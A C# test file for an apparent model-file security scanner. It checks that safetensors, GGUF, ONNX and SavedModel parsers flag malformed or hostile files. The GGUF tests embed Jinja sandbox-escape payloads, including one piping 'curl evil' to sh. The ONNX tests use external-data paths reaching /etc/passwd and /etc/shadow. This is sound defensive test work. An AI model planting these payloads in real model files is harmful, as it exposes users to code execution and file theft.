using System.Text;
using Bulwark.Models;
using Bulwark.Models.Formats;

namespace Bulwark.Tests.Models.Formats;

public class SafetensorsFormatTests
{
    private readonly SafetensorsFormat _format = new();

    [Fact]
    public void A_well_formed_file_is_recognised_and_clean()
    {
        var bytes = Safetensors.Benign();
        Assert.True(_format.Recognizes(bytes, bytes.Length));
        Assert.Empty(RecordingScan.Run(_format, bytes).Issues);
    }

    [Theory]
    [InlineData("""{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"b":{"dtype":"F32","shape":[2],"data_offsets":[4,12]}}""", 12, ModelVerdict.Suspicious, "overlap")]
    [InlineData("""{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"b":{"dtype":"F32","shape":[2],"data_offsets":[16,24]}}""", 24, ModelVerdict.Suspicious, "belong to no tensor")]
    [InlineData("""{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}""", 4096, ModelVerdict.Suspicious, "after the last tensor")]
    [InlineData("""{"a":{"dtype":"Q4","shape":[2],"data_offsets":[0,8]}}""", 8, ModelVerdict.Error, "unknown dtype")]
    [InlineData("""{"a":{"dtype":"F32","shape":[3],"data_offsets":[0,8]}}""", 8, ModelVerdict.Error, "shape x dtype")]
    [InlineData("""{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,800]}}""", 8, ModelVerdict.Error, "past the data area")]
    [InlineData("""{"__metadata__":{"x":{"nested":1}},"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}""", 1, ModelVerdict.Suspicious, "not a string")]
    [InlineData("""{"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]},"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}""", 1, ModelVerdict.Suspicious, "duplicate")]
    [InlineData("""{"a": not json""", 0, ModelVerdict.Error, "not valid JSON")]
    public void Malformed_headers_are_reported(string header, int data, ModelVerdict verdict, string message)
    {
        var scan = RecordingScan.Run(_format, Safetensors.File(header, data));
        var issue = Assert.Single(scan.Issues, i => i.Message.Contains(message, StringComparison.Ordinal));
        Assert.Equal(ModelRuleIds.SafetensorsMalformed, issue.RuleId);
        Assert.Equal(verdict, issue.Verdict);
    }

    [Fact]
    public void Invalid_utf8_and_lying_header_lengths_are_errors()
    {
        var bytes = Safetensors.File("{\"a\":\"\xff\"}", 0);
        bytes[10] = 0xFF;
        Assert.Contains(RecordingScan.Run(_format, bytes).Issues, i => i.Message.Contains("UTF-8", StringComparison.Ordinal));

        var lying = Safetensors.Benign();
        lying[7] = 0x7F; // header length of ~2^63
        Assert.False(_format.Recognizes(lying, lying.Length));
        Assert.Equal(ModelVerdict.Error, RecordingScan.Run(_format, lying).Verdict);
    }

    [Fact]
    public void A_two_gigabyte_file_is_judged_from_its_header_alone()
    {
        const long data = 2L << 30;
        var header = Safetensors.Header($$$"""{"w":{"dtype":"F32","shape":[{{{data / 4}}}],"data_offsets":[0,{{{data}}}]}}""");
        var stream = new SparseStream(header, header.Length + data);
        var head = new byte[64 * 1024];
        stream.ReadExactly(head);
        Assert.True(_format.Recognizes(head, stream.Length));
        stream.Position = 0;
        var before = stream.BytesRead;
        var scan = new RecordingScan();
        _format.Inspect(stream, "big.safetensors", scan);
        Assert.Empty(scan.Issues);
        Assert.True(stream.BytesRead - before < 64 * 1024, $"read {stream.BytesRead - before} bytes");
    }
}

public class GgufFormatTests
{
    private const string ChatMl = "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\n' + message['content'] + '<|im_end|>' + '\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\n' }}{% endif %}";

    private readonly GgufFormat _format = new();

    private static GgufWriter Model(string template) => new GgufWriter()
        .String("general.architecture", "llama")
        .UInt32("general.alignment", 32)
        .StringArray("tokenizer.ggml.tokens", "<s>", "</s>", "hello")
        .String("tokenizer.chat_template", template)
        .Tensor("a", 0, 8)
        .Tensor("b", 32, 4, 2);

    [Fact]
    public void A_model_with_an_ordinary_chat_template_is_clean()
    {
        var bytes = Model(ChatMl).ToArray(64);
        Assert.True(_format.Recognizes(bytes, bytes.Length));
        Assert.Empty(RecordingScan.Run(_format, bytes).Issues);
    }

    [Theory]
    [InlineData("{{ cycler.__init__.__globals__.os.popen('id').read() }}")]
    [InlineData("{{ lipsum.__globals__['os'].popen('curl evil|sh') }}")]
    [InlineData("{{ ''.__class__.__mro__[1].__subclasses__() }}")]
    [InlineData("{{ self._TemplateReference__context.joiner.__init__.__globals__ }}")]
    [InlineData("{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}")]
    public void Sandbox_escapes_in_the_chat_template_are_malicious(string template)
    {
        var scan = RecordingScan.Run(_format, Model(ChatMl + template).ToArray(64), "m.gguf");
        var issue = Assert.Single(scan.Issues);
        Assert.Equal(ModelRuleIds.GgufTemplateInjection, issue.RuleId);
        Assert.Equal(ModelVerdict.Malicious, issue.Verdict);
        Assert.Equal("m.gguf#tokenizer.chat_template", issue.Member);
    }

    [Fact]
    public void Named_templates_are_checked_too()
    {
        var bytes = new GgufWriter().String("tokenizer.chat_template.tool_use", "{{ config.__class__ }}").ToArray(0);
        Assert.Equal(ModelVerdict.Malicious, RecordingScan.Run(_format, bytes).Verdict);
    }

    [Fact]
    public void Lying_lengths_and_counts_are_malformed_errors()
    {
        var bytes = Model(ChatMl).ToArray(64);
        var kvCount = (byte[])bytes.Clone();
        kvCount[16 + 7] = 0x40; // kv count ~2^62
        var issue = Assert.Single(RecordingScan.Run(_format, kvCount).Issues);
        Assert.Equal((ModelRuleIds.GgufMalformed, ModelVerdict.Error), (issue.RuleId, issue.Verdict));

        var keyLength = (byte[])bytes.Clone();
        keyLength[24 + 6] = 0x10; // first key length ~2^52
        Assert.Equal(ModelVerdict.Error, RecordingScan.Run(_format, keyLength).Verdict);

        var truncated = bytes[..(bytes.Length - 40)];
        Assert.Contains(RecordingScan.Run(_format, truncated).Issues, i => i.RuleId == ModelRuleIds.GgufMalformed);
    }

    [Fact]
    public void Overlapping_tensors_are_suspicious()
    {
        var bytes = new GgufWriter().Tensor("a", 0, 16).Tensor("b", 32, 8).ToArray(64);
        var issue = Assert.Single(RecordingScan.Run(_format, bytes).Issues);
        Assert.Equal(ModelVerdict.Suspicious, issue.Verdict);
    }

    [Fact]
    public void Only_gguf_magic_and_versions_1_to_3_are_recognised()
    {
        var bytes = Model(ChatMl).ToArray(64);
        bytes[4] = 7;
        Assert.False(_format.Recognizes(bytes, bytes.Length));
        Assert.False(_format.Recognizes("GGML\x03\0\0\0"u8, 8));
    }

    [Fact]
    public void A_two_gigabyte_model_is_judged_from_its_header_alone()
    {
        var header = new GgufWriter().String("tokenizer.chat_template", "{{ __import__('os').system('id') }}")
            .Tensor("w", 0, 1L << 29).HeaderBytes();
        var stream = new SparseStream(header, header.Length + (2L << 30));
        var scan = new RecordingScan();
        _format.Inspect(stream, "big.gguf", scan);
        Assert.Equal(ModelVerdict.Malicious, Assert.Single(scan.Issues).Verdict);
        Assert.True(stream.BytesRead <= 64 * 1024, $"read {stream.BytesRead} bytes");
    }
}

public class OnnxFormatTests
{
    private readonly OnnxFormat _format = new();

    internal static byte[] Model(Action<ProtoWriter>? extraGraph = null, Action<ProtoWriter>? extraModel = null)
    {
        var w = new ProtoWriter()
            .Varint(1, 8)
            .String(2, "pytorch")
            .String(3, "2.3")
            .Message(7, g =>
            {
                g.Message(1, n => n.String(1, "x").String(2, "y").String(4, "Conv"));
                g.Message(1, n => n.String(1, "y").String(2, "z").String(4, "FusedMatMul").String(7, "com.microsoft"));
                g.String(2, "main");
                g.Message(5, t => t.Varint(1, 4).Varint(2, 1).String(8, "W").Bytes(9, new byte[100_000]));
                extraGraph?.Invoke(g);
            })
            .Message(8, o => o.String(1, "").Varint(2, 17));
        extraModel?.Invoke(w);
        return w.ToArray();
    }

    [Fact]
    public void A_standard_model_is_recognised_and_clean()
    {
        var bytes = Model();
        Assert.True(_format.Recognizes(bytes, bytes.Length));
        Assert.Empty(RecordingScan.Run(_format, bytes).Issues);
    }

    [Fact]
    public void Custom_domain_ops_are_suspicious_even_in_subgraphs()
    {
        var bytes = Model(g => g.Message(1, n => n.String(4, "If").Message(5, a => a.String(1, "then_branch")
            .Message(6, sub => sub.Message(1, inner => inner.String(4, "Backdoor").String(7, "evil.ops"))))));
        var issue = Assert.Single(RecordingScan.Run(_format, bytes).Issues);
        Assert.Equal((ModelRuleIds.OnnxCustomOp, ModelVerdict.Suspicious, "evil.ops::Backdoor"), (issue.RuleId, issue.Verdict, issue.Evidence));
    }

    [Fact]
    public void A_function_the_model_defines_is_not_a_custom_op()
    {
        var bytes = Model(
            g => g.Message(1, n => n.String(4, "MyGelu").String(7, "local.funcs")),
            m => m.Message(25, f => f.String(1, "MyGelu").String(10, "local.funcs").Message(7, n => n.String(4, "Erf"))));
        Assert.Empty(RecordingScan.Run(_format, bytes).Issues);
    }

    [Theory]
    [InlineData("../../../../etc/passwd", true)]
    [InlineData("/etc/shadow", true)]
    [InlineData("C:\\Windows\\win.ini", true)]
    [InlineData("weights/../../x.bin", true)]
    [InlineData("model.onnx.data", false)]
    [InlineData("weights/../model.data", false)]
    public void External_data_locations_outside_the_model_folder_are_malicious(string location, bool escapes)
    {
        var bytes = Model(g => g.Message(5, t => t.String(8, "E").Message(13, e => e.String(1, "location").String(2, location)).Varint(14, 1)));
        var issues = RecordingScan.Run(_format, bytes).Issues;
        if (escapes)
        {
            var issue = Assert.Single(issues);
            Assert.Equal((ModelRuleIds.OnnxExternalDataEscape, ModelVerdict.Malicious, location), (issue.RuleId, issue.Verdict, issue.Evidence));
        }
        else
        {
            Assert.Empty(issues);
        }
    }

    [Fact]
    public void A_truncated_model_is_a_format_error()
    {
        var bytes = Model()[..5000];
        Assert.Equal(ModelRuleIds.FormatError, Assert.Single(RecordingScan.Run(_format, bytes).Issues).RuleId);
    }
}

public class SavedModelFormatTests
{
    private readonly SavedModelFormat _format = new();

    internal static byte[] Model(params (string Op, string? OutputStream)[] extra) => Model(extra, []);

    internal static byte[] Model((string Op, string? OutputStream)[] graphOps, string[] functionOps) => new ProtoWriter()
        .Varint(1, 1)
        .Message(2, mg =>
        {
            mg.Message(1, info => info.String(1, "").String(4, "serve").String(5, "2.15.0"));
            mg.Message(2, gd =>
            {
                foreach (var op in new[] { "Placeholder", "MatMul", "SaveV2", "RestoreV2", "MergeV2Checkpoints", "StringJoin" })
                {
                    gd.Message(1, n => n.String(1, op.ToLowerInvariant()).String(2, op));
                }

                foreach (var (op, stream) in graphOps)
                {
                    gd.Message(1, n =>
                    {
                        n.String(1, "node_" + op).String(2, op);
                        if (stream is not null)
                        {
                            n.Message(5, e => e.String(1, "output_stream").Message(2, v => v.String(2, stream)));
                        }
                    });
                }

                gd.Message(2, lib => lib.Message(1, f =>
                {
                    f.Message(1, sig => sig.String(1, "__inference_serve_42"));
                    f.Message(3, n => n.String(1, "add").String(2, "AddV2"));
                    foreach (var op in functionOps)
                    {
                        f.Message(3, n => n.String(1, "hidden").String(2, op));
                    }
                }));
            });
            mg.Message(5, sig => sig.String(1, "serving_default"));
        })
        .ToArray();

    [Fact]
    public void A_saver_graph_is_clean()
    {
        var bytes = Model();
        Assert.True(_format.Recognizes(bytes, bytes.Length));
        Assert.False(new OnnxFormat().Recognizes(bytes, bytes.Length));
        Assert.Empty(RecordingScan.Run(_format, bytes).Issues);
    }

    [Fact]
    public void File_and_python_ops_are_malicious_in_the_graph_and_in_functions()
    {
        var scan = RecordingScan.Run(_format, Model([("ReadFile", null), ("ImmutableConst", null)], ["PyFunc"]), "saved_model.pb");
        Assert.Equal(3, scan.Issues.Count);
        Assert.All(scan.Issues, i => Assert.Equal(ModelRuleIds.TfUnsafeOp, i.RuleId));
        Assert.Equal(ModelVerdict.Malicious, scan.Issues.Single(i => i.Evidence == "ReadFile").Verdict);
        Assert.Equal(ModelVerdict.Suspicious, scan.Issues.Single(i => i.Evidence == "ImmutableConst").Verdict);
        Assert.Contains("library/__inference_serve_42", scan.Issues.Single(i => i.Evidence == "PyFunc").Member, StringComparison.Ordinal);
    }

    [Fact]
    public void PrintV2_is_malicious_only_when_it_writes_to_a_file()
    {
        Assert.Empty(RecordingScan.Run(_format, Model(("PrintV2", "stderr"))).Issues);
        var issue = Assert.Single(RecordingScan.Run(_format, Model(("PrintV2", "file:///home/user/.bashrc"))).Issues);
        Assert.Equal(ModelVerdict.Malicious, issue.Verdict);
    }

    [Fact]
    public void Arbitrary_protobufs_are_not_savedmodels()
    {
        var onnx = OnnxFormatTests.Model();
        Assert.False(_format.Recognizes(onnx, onnx.Length));
        Assert.False(_format.Recognizes(new byte[] { 0x08, 0x01, 0x12, 0x7F, 0x0A, 0x01 }, 6));
    }
}

public class FormatRecognitionTests
{
    public static TheoryData<string, string> Samples() => new()
    {
        { "safetensors", "safetensors" },
        { "gguf", "gguf" },
        { "onnx", "onnx" },
        { "savedmodel", "tf-savedmodel" },
        { "keras", "keras-config" },
        { "hf", "hf-config" },
        { "h5", "keras-h5" },
    };

    internal static byte[] Sample(string kind) => kind switch
    {
        "safetensors" => Safetensors.Benign(),
        "gguf" => new GgufWriter().String("tokenizer.chat_template", "{{ messages[0]['content'] }}").Tensor("a", 0, 8).ToArray(32),
        "onnx" => OnnxFormatTests.Model(),
        "savedmodel" => SavedModelFormatTests.Model(),
        "keras" => Encoding.UTF8.GetBytes(KerasFormatTests.Sequential()),
        "hf" => Encoding.UTF8.GetBytes("""{"architectures":["BertModel"],"model_type":"bert","hidden_size":768}"""),
        "h5" => KerasFormatTests.H5(KerasFormatTests.Sequential()),
        _ => throw new ArgumentOutOfRangeException(nameof(kind)),
    };

    [Theory]
    [MemberData(nameof(Samples))]
    public void Each_format_is_recognised_by_content_and_only_by_its_own_recogniser(string kind, string format)
    {
        var bytes = Sample(kind);
        var head = bytes.AsSpan(0, Math.Min(bytes.Length, 64 * 1024)).ToArray();
        var matches = ModelFileFormats.All.Where(f => f.Recognizes(head, bytes.Length)).Select(f => f.Name).ToList();
        Assert.Equal([format], matches);
    }

    [Fact]
    public void Ordinary_files_are_not_recognised()
    {
        foreach (var text in new[] { "hello world", "{\"name\":\"x\",\"version\":\"1.0\"}", "[1,2,3]", "PK\x03\x04", "\x80\x02}q\x00." })
        {
            var bytes = Encoding.Latin1.GetBytes(text);
            Assert.DoesNotContain(ModelFileFormats.All, f => f.Recognizes(bytes, bytes.Length));
        }
    }
}
